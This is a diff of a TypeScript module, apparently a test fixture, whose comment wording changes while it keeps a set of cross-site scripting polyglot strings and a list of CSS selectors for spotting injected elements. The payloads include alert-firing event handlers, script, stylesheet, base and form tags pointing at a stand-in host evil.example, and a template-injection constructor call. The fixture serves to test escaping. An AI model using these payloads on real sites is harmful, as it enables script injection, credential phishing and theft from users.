@@ -1,6 +1,6 @@
-/** Texts that some reader of markup, script, style, message or address would take for its own. */
+/** Texts that some parser of markup, scripts, styles, messages or addresses could interpret. */
 export const polyglots = {
-  /** 40 characters at most, as the shortest fields take. */
+  /** 40 characters at most, for the shortest fields. */
   short: `"'><img src=x onerror=alert(1)>{0}`,
   /** 60 at most. */
   tag: '</title></script><script src=//evil.example/x.js></script>',
@@ -10,13 +10,13 @@ export const polyglots = {
   style: `</style><link rel=stylesheet href=//evil.example/s.css>'-alert(1)-'`,
   /** 120 at most. */
   frame: `--><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data=//evil.example>{count, plural, other {#}}`,
-  /** 300 at most, over lines. */
+  /** 300 at most, on several lines. */
   note: `</textarea></noscript><template><form action=//evil.example><input autofocus onfocus=alert(1)>
 <math><mtext><style><!--</style><img title="--><img src=//evil.example/p onerror=alert(1)>">
 {{constructor.constructor('alert(1)')()}} <base href=//evil.example> \\u003cscript>`,
 } as const
 
-/** What a page would have if one of them had become more than text. */
+/** What a page would contain if one of them had been interpreted. */
 export const planted = [
   'script:not([src^="/assets/"])',
   'img[src="x"]',
